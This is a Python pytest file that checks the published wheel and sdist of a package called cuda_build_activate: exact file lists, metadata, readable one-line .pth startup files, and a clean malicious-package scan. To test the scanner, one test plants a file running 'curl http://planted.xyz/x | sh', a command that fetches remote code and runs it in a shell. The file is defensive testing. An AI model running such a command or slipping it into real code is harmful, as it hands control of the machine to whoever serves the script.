"""What is published."""

from __future__ import annotations

import email
import json
import shutil
import subprocess
import sys
import tarfile
import zipfile
from pathlib import Path

import pytest
from conftest import PROJECT

STARTUP_FILES = ("hatch_autorun_cuda_build_activate.pth", "hatch_autorun_cuda_build_activate.start")
MODULES = (
    "__init__.py",
    "__main__.py",
    "_activate.py",
    "_assemble.py",
    "_doctor.py",
    "_shells.py",
    "_stubs.py",
    "py.typed",
)


def test_the_wheel_holds_exactly(wheel: Path) -> None:
    info = f"cuda_build_activate-{wheel.name.split('-')[1]}.dist-info"
    assert wheel.name.endswith("-py3-none-any.whl")
    with zipfile.ZipFile(wheel) as archive:
        assert set(archive.namelist()) == {
            *(f"cuda_build_activate/{name}" for name in MODULES),
            *STARTUP_FILES,
            *(f"{info}/{name}" for name in ("METADATA", "RECORD", "WHEEL", "entry_points.txt", "licenses/LICENSE")),
        }


def test_the_sdist_holds_what_the_wheel_is_built_and_tested_from(wheel: Path) -> None:
    (sdist,) = wheel.parent.glob("*.tar.gz")
    with tarfile.open(sdist) as archive:
        names = {name.split("/", 1)[1] for name in archive.getnames()}
    assert {"PKG-INFO", "LICENSE", "README.md", "pyproject.toml", "tests/conftest.py"} <= names
    assert {f"pth/{name}" for name in STARTUP_FILES} <= names
    assert not {name for name in names if name.split("/")[0] in ("build", "dist", ".venv", ".ci")}


def test_no_runtime_dependency(wheel: Path) -> None:
    with zipfile.ZipFile(wheel) as archive:
        (name,) = (name for name in archive.namelist() if name.endswith("/METADATA"))
        metadata = email.message_from_bytes(archive.read(name))
    assert metadata.get_all("Requires-Dist") == ["cuda-toolkit[cccl,cudart,nvcc]<14,>=13.2.1; extra == 'cu13'"]
    assert metadata["Requires-Python"] == ">=3.9"


@pytest.mark.parametrize("name", STARTUP_FILES)
def test_a_startup_file_is_one_readable_line_that_the_readme_shows(wheel: Path, name: str) -> None:
    with zipfile.ZipFile(wheel) as archive:
        content = archive.read(name).decode("ascii")
    assert content == (PROJECT / "pth" / name).read_text()
    (line,) = content.splitlines()
    assert "exec(" not in line
    assert f"\n{line}\n" in (PROJECT / "README.md").read_text()


def test_a_scanner_for_malicious_packages(wheel: Path) -> None:
    scanner = Path(sys.executable).with_name("guarddog")
    if not scanner.exists():
        pytest.skip("guarddog is not installed (dependency group dev)")

    def scan(path: Path) -> list[str]:
        done = subprocess.run(
            [scanner, "pypi", "scan", "--no-sandbox", "--output-format", "json", path], capture_output=True, check=False
        )
        return [risk["name"] for risk in json.loads(done.stdout)["risks"]]

    assert scan(wheel) == []
    planted = wheel.with_name("planted-1.0-py3-none-any.whl")
    shutil.copy(wheel, planted)
    with zipfile.ZipFile(planted, "a") as archive:
        archive.writestr("planted.py", "import os\nos.system('curl http://planted.xyz/x | sh')\n")
    found = scan(planted)
    planted.unlink()
    assert found
